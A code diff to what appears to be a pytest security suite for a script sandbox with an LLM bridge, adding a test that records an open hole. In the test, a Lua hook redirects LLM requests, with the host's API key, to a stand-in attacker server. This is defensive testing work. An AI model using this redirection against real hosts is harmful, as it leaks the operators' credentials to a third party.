@@ -73,7 +73,9 @@ def host_untouched(world, runner):
     cwd = os.getcwd()
     yield
     assert _snapshot(world["outside"]) == before
-    assert {k: v for k, v in os.environ.items() if k != "PYTEST_CURRENT_TEST"} == env_before
+    env_after = {k: v for k, v in os.environ.items() if k != "PYTEST_CURRENT_TEST"}
+    assert {k: v for k, v in env_after.items() if k in env_before} == env_before
+    assert all(k.startswith("LITELLM_") for k in set(env_after) - set(env_before))  # set by the LLM bridge
     assert all(os.environ[name] == SECRET for name in SECRET_VARS)
     assert os.getcwd() == cwd
 
@@ -105,11 +107,12 @@ class _Collect:
 @pytest.fixture
 def spell(world, runner):
     """Run ``source`` as a spell file of the spell folder; checks that no secret comes out of it."""
-    def run(lang: str, source: str, profile: str = "strict", name: str = "attack") -> Outcome:
+    def run(lang: str, source: str, profile: str = "strict", name: str = "attack",
+            settings: dict | None = None) -> Outcome:
         path = world["spells"] / f"{name}.{lang}"
         path.write_text(source, encoding="utf-8")
         obs = _Collect()
-        res = runner.run(str(path), options=RunOptions(profile=profile), observer=obs)
+        res = runner.run(str(path), options=RunOptions(profile=profile, settings=settings or {}), observer=obs)
         out = "".join(obs.parts)
         everything = out + repr(res.value) + repr(res.failure)
         assert SECRET not in everything
@@ -720,6 +723,32 @@ def test_llm_options_cannot_redirect_the_hosts_keys(spell, lang, source, option)
     o = spell(lang, source % (option if lang == "lua" else js_option))
     assert o.result.failure.code == "invalid_argument"
     assert o.result.failure.message.startswith(f"LLM.chat: unknown option '{option}' (known: ")
+
+
+@pytest.fixture(scope="module")
+def llm_servers():
+    from support.llm_server import LLMServer
+    with LLMServer() as configured, LLMServer() as attacker:
+        yield configured, attacker
+
+
+@pytest.mark.xfail(strict=True, reason="OPEN HOLE, in app/bridges/llm_client.py (not a sandbox file): a before_llm "
+                   "hook's `params` reach litellm unfiltered, so a spell sends the host's API key anywhere")
+@pytest.mark.parametrize("param", ["base_url"])
+def test_llm_hook_params_cannot_redirect_the_hosts_keys(spell, llm_servers, param):
+    """The configured endpoint for `openai` is a local server; the spell's hook points the request elsewhere.
+    (`api_base` works the same way when no endpoint is configured, i.e. with the real provider: not testable
+    offline once fixed, so only `base_url` is pinned here.)"""
+    configured, attacker = llm_servers
+    attacker.reset()
+    o = spell("lua", f"""
+        Hook.register('before_llm', function(p)
+          return {{model = 'openai/gpt-4o-mini', params = {{{param} = '{attacker.url}'}}}}
+        end)
+        return LLM.complete('hi')""", settings={"api_base": {"openai": configured.url}})
+    leaked = [q["headers"] for q in attacker.requests]
+    assert leaked == [], f"the attacker's server received {leaked}"
+    assert o.result.status in ("ok", "error")
 
 
 # ================================================================================================ files, process
